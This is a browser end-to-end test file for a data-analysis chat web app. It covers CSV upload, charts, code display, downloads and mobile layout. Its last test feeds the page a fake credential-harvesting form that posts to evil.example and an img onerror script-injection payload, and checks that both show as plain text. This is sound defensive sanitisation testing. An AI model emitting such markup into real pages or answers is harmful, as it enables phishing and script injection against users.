/**
 * The web chat in a real browser (Debian's headless Chromium driven by playwright-core): someone attaches a
 * CSV, asks for a chart, sees it render, opens the code and downloads the generated file; after a reload the
 * conversation is still there. Screenshots are kept in test-artifacts/.
 */
import fs from "node:fs";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { attachCsv, launchChromium, loadedImageWidth, recordProblems } from "./support/browser";
import { defaultScript, ScriptedBackend } from "./fakes/scripted-backend";
import { startTestDatabot, type TestDatabot } from "./support/harness";

const ARTIFACTS = path.join(__dirname, "..", "test-artifacts");
const SALES = "month,region,revenue\n2024-01,East,120\n2024-01,West,95\n2024-02,East,130\n";

let bot: TestDatabot;
let browser: Browser;
let page: Page;
const problems: string[] = [];

beforeAll(async () => {
  browser = await launchChromium();
  fs.mkdirSync(ARTIFACTS, { recursive: true });
});

afterAll(async () => {
  await browser?.close();
});

beforeEach(async () => {
  bot = await startTestDatabot({ env: { WEB_CHAT: "true" } });
  page = await browser.newPage({ viewport: { width: 1280, height: 860 }, acceptDownloads: true });
  problems.length = 0;
  recordProblems(page, problems);
});

afterEach(async () => {
  await page?.close();
  await bot?.close();
});

/** Waits until the latest answer's chart has loaded and returns its natural width. */
function chartWidth(): Promise<number> {
  return loadedImageWidth(page.locator(".entry-bot figure img").last());
}

test("someone attaches a CSV, asks for a chart, sees it, and finds the conversation again after a reload", async () => {
  await page.goto(bot.url);
  await page.getByRole("heading", { name: "Ask a question about your data" }).waitFor();

  await attachCsv(page, "sales.csv", SALES);
  await page.getByLabel("Message").fill("bar chart of revenue by region");
  await page.getByLabel("Message").press("Enter");

  expect(await chartWidth()).toBe(64);
  await page.getByRole("img", { name: "Bar chart of revenue by region" }).waitFor();
  await expectText(
    ".entry-bot .markdown",
    'Here is the chart for "bar chart of revenue by region" using sales.csv',
  );
  await expectText(".entry-user .chips", "sales.csv");

  await page.locator(".entry-bot").getByText("Show code").click();
  await expectText(".entry-bot details.code pre", "pd.read_csv('/mnt/data/data.csv')");

  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: /summary\.csv/ }).click(),
  ]);
  expect(download.suggestedFilename()).toBe("summary.csv");
  expect(fs.readFileSync((await download.path())!, "utf8")).toBe("region,revenue\nEast,120\nWest,95\n");

  await page.locator("#thread-list a", { hasText: "bar chart of revenue by region" }).waitFor();
  await page.screenshot({ path: path.join(ARTIFACTS, "web-chat.png"), fullPage: true });

  await page.reload();
  expect(await chartWidth()).toBe(64);
  await expectText(".entry-user .bubble", "bar chart of revenue by region");
  await expect(page.locator("#chat-title").textContent()).resolves.toBe("bar chart of revenue by region");
  expect(problems).toEqual([]);
});

test("files dropped on the page are attached; a file databot cannot use says why; it works on a phone", async () => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(bot.url);
  await page.locator("#composer-text").waitFor();
  const drop = await page.evaluateHandle(`(() => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([${JSON.stringify(SALES)}], "dropped.csv", { type: "text/csv" }));
    transfer.items.add(new File([new Uint8Array([0x4d, 0x5a, 0, 1])], "tool.exe"));
    return transfer;
  })()`);
  await page.dispatchEvent("main", "dragenter", { dataTransfer: drop });
  await page.locator("#drop-overlay").waitFor({ state: "visible" });
  await page.dispatchEvent("main", "drop", { dataTransfer: drop });
  await page.locator('#attachments [data-status="ready"]', { hasText: "dropped.csv" }).waitFor();
  await expectText('#attachments [data-status="refused"]', '"tool.exe": this file type is not supported');
  await page.getByRole("button", { name: "Remove tool.exe" }).click();

  await page.getByRole("button", { name: "Send" }).click();
  expect(await chartWidth()).toBe(64);
  await expectText(".entry-user .chips", "dropped.csv");
  await page.screenshot({ path: path.join(ARTIFACTS, "web-chat-phone.png"), fullPage: true });

  // On a narrow screen the chat list opens from the header and closes with Escape.
  await page.getByRole("button", { name: "Chats" }).click();
  await page.locator("#thread-list a", { hasText: "dropped.csv" }).waitFor({ state: "visible" });
  await page.keyboard.press("Escape");
  expect(await page.getByRole("button", { name: "Chats" }).getAttribute("aria-expanded")).toBe("false");
  expect(problems).toEqual([]);
});

test("while databot works, the page shows each step, the code being run and the answer as it is written", async () => {
  await page.close();
  await bot.close();
  let release!: () => void;
  const released = new Promise<void>((resolve) => (release = resolve));
  const backend = new ScriptedBackend({
    script: async (context) => {
      context.observer.onProgress({ kind: "running_code", code: "df.groupby('region')['revenue'].sum()" });
      context.observer.onProgress({ kind: "text", text: "East leads with **250**" });
      await released;
      return defaultScript(context);
    },
  });
  bot = await startTestDatabot({ env: { WEB_CHAT: "true" }, backend });
  page = await browser.newPage({ viewport: { width: 1280, height: 860 } });

  await page.goto(bot.url);
  await page.getByLabel("Message").fill("revenue by region");
  await page.getByLabel("Message").press("Enter");
  await expectText("#status", "Writing the answer…");
  await expectText("#draft strong", "250");
  await page.locator("#live-code").getByText("Show code").click();
  await expectText("#live-code pre", "df.groupby('region')['revenue'].sum()");
  await page.screenshot({ path: path.join(ARTIFACTS, "web-chat-progress.png") });

  release();
  expect(await chartWidth()).toBe(64);
  await page.locator("#live").waitFor({ state: "hidden" });
  expect(problems).toEqual([]);
});

test("an answer carrying HTML shows it as text: placeholders stay visible, and no form, field or button appears", async () => {
  await page.close();
  await bot.close();
  const backend = new ScriptedBackend({
    script: (context) => ({
      ...defaultScript(context),
      text:
        "Try *chart of <measure> by <category>*.\n\n" +
        '<form action="https://evil.example/login"><input name="password"><button>Sign in again</button></form>\n\n' +
        'Or <img src="x" onerror="globalThis.__owned = true"> <textarea>notes</textarea> **done**.',
    }),
  });
  bot = await startTestDatabot({ env: { WEB_CHAT: "true" }, backend });
  page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
  await page.goto(bot.url);
  await page.getByLabel("Message").fill("help me");
  await page.getByLabel("Message").press("Enter");
  await expectText(".entry-bot .markdown em", "chart of <measure> by <category>");
  const answer = page.locator(".entry-bot .markdown").last();
  expect(await answer.locator("form, input, button, textarea, img").count()).toBe(0);
  await expectText(".entry-bot .markdown", "<button>Sign in again</button>");
  await expectText(".entry-bot .markdown strong", "done");
  expect(await page.evaluate(() => (globalThis as { __owned?: boolean }).__owned)).toBeUndefined();
  expect(problems).toEqual([]);
});

async function expectText(selector: string, text: string): Promise<void> {
  await page.locator(selector, { hasText: text }).first().waitFor();
}
